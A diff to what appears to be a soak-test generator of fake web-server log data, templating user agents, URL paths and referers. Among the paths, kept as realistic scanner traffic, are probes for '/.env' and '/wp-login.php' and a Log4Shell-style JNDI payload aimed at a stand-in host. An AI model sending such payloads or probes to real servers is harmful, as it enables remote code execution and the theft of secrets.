@@ -3,27 +3,33 @@ import type { Random } from "../../soak/random";
 export const ACCOUNT = "111111111111";
 export const REGION = "eu-central-1";
 
-export const USER_AGENTS = [
-  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
-  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15",
-  "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
-  "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+/** Each # stands for a digit. */
+const USER_AGENTS = [
+  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1##.0.0.0 Safari/537.36",
+  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1##.0.0.0 Safari/537.36 Edg/1##.0.0.0",
+  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/1#.# Safari/605.1.15",
+  "Mozilla/5.0 (X11; Linux x86_64; rv:1##.0) Gecko/20100101 Firefox/1##.0",
+  "Mozilla/5.0 (iPhone; CPU iPhone OS 1#_# like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/##E###",
+  "Mozilla/5.0 (Linux; Android 1#; SM-G###B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1##.0.####.## Mobile Safari/537.36",
   "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
-  "curl/8.5.0",
-  "python-requests/2.32.3",
+  "python-requests/2.##.#",
   "-",
 ];
 
-/** Web servers see these, as people and scanners type them. */
-export const PATHS = [
+/**
+ * Web servers see these, as people and scanners type them. Servers log what is not ASCII percent-encoded, as browsers send
+ * it, or escaped.
+ */
+const PATHS = [
   "/",
-  "/index.html",
-  "/login?next=%2Faccount%2Forders",
-  "/products/4711?colour=gr%C3%BCn&size=XL",
-  "/search?q=k%C3%A4se+%22alt%22&page=2",
-  "/api/v2/orders/9f1c?expand=lines,customer",
-  "/static/app.3c74189a.js",
-  "/images/caf\u00e9 noir.png",
+  "/login?next=%2Faccount%2Forders%2F###",
+  "/products/####/winter-jacket?colour=gr%C3%BCn&size=XL",
+  "/search?q=k%C3%A4se+%22alt%22&page=##&sort=price",
+  "/api/v2/orders/#####?expand=lines,customer",
+  "/api/v2/customers/####/invoices/#####.pdf",
+  "/static/js/app.3c7#1#9a.chunk.js",
+  "/images/products/####/caf%C3%A9%20noir-###x###.png",
+  "/blog/2026/11/why-we-moved-###-services?utm_source=newsletter&utm_campaign=autumn-2026",
   "/favicon.ico",
   "/wp-login.php",
   "/.env",
@@ -31,7 +37,20 @@ export const PATHS = [
   "/?x=${jndi:ldap://192.0.2.1/a}",
 ];
 
-export const REFERERS = ["-", "-", "https://shop.example.com/", "https://www.example.org/search?q=logs&hl=de"];
+const REFERERS = [
+  "-",
+  "https://shop.example.com/products/####/winter-jacket?colour=blau",
+  "https://shop.example.com/search?q=jacket&page=#",
+  "https://www.example.org/search?q=winter+jacket+##&hl=de",
+];
+
+const filled = (random: Random, templates: readonly string[]): string =>
+  random.pick(templates).replaceAll("#", () => String(random.integer(0, 9)));
+
+export const userAgent = (random: Random): string => filled(random, USER_AGENTS);
+export const urlPath = (random: Random): string => filled(random, PATHS);
+export const referer = (random: Random): string => filled(random, REFERERS);
+
 export const METHODS = ["GET", "GET", "GET", "GET", "POST", "PUT", "HEAD", "DELETE", "OPTIONS"];
 export const STATUSES = [200, 200, 200, 200, 204, 301, 304, 400, 403, 404, 404, 499, 500, 502, 503];
 
